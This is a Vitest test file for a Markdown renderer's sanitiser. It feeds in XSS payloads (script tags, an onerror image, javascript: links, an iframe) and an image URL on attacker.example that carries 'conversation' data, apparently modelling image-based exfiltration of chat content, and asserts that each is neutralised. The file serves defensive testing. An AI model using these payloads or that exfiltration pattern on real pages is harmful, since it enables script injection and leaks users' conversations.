// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../../src/utils/markdown'

describe('renderMarkdown', () => {
  it('renders Markdown structure', () => {
    const html = renderMarkdown('# Title\n\n**bold** and `code`\n\n```js\nlet a = 1 < 2\n```')
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<code class="language-js">let a = 1 &lt; 2\n</code>')
  })

  it.each([
    ['<script>window.pwned = 1</script>', /<script/i],
    ['<img src=x onerror="window.pwned = 1">', /onerror/i],
    ['[click](javascript:window.pwned=1)', /javascript:/i],
    ['<svg><script>window.pwned = 1</script></svg>', /<script/i],
    ['<a href="javascript:alert(1)">x</a>', /javascript:/i],
    ['<iframe src="https://example.com"></iframe>', /<iframe/i],
  ])('removes executable content from %s', (input, forbidden) => {
    expect(renderMarkdown(input)).not.toMatch(forbidden)
  })

  it('shows HTML inside code blocks as text', () => {
    const html = renderMarkdown('```html\n<script>alert(1)</script>\n```')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('opens links in a new tab without an opener', () => {
    expect(renderMarkdown('[docs](https://example.com)')).toContain('rel="noopener noreferrer nofollow"')
  })

  it('never loads an image: Markdown images become links, HTML images are removed', () => {
    const html = renderMarkdown('![secret <b>x</b>](https://attacker.example/?q=conversation)\n\n<img src="https://attacker.example/2">')
    expect(html).not.toMatch(/<img/i)
    expect(html).toContain('<a href="https://attacker.example/?q=conversation"')
    expect(html).toContain('[image: secret &lt;b&gt;x&lt;/b&gt;]')
  })
})
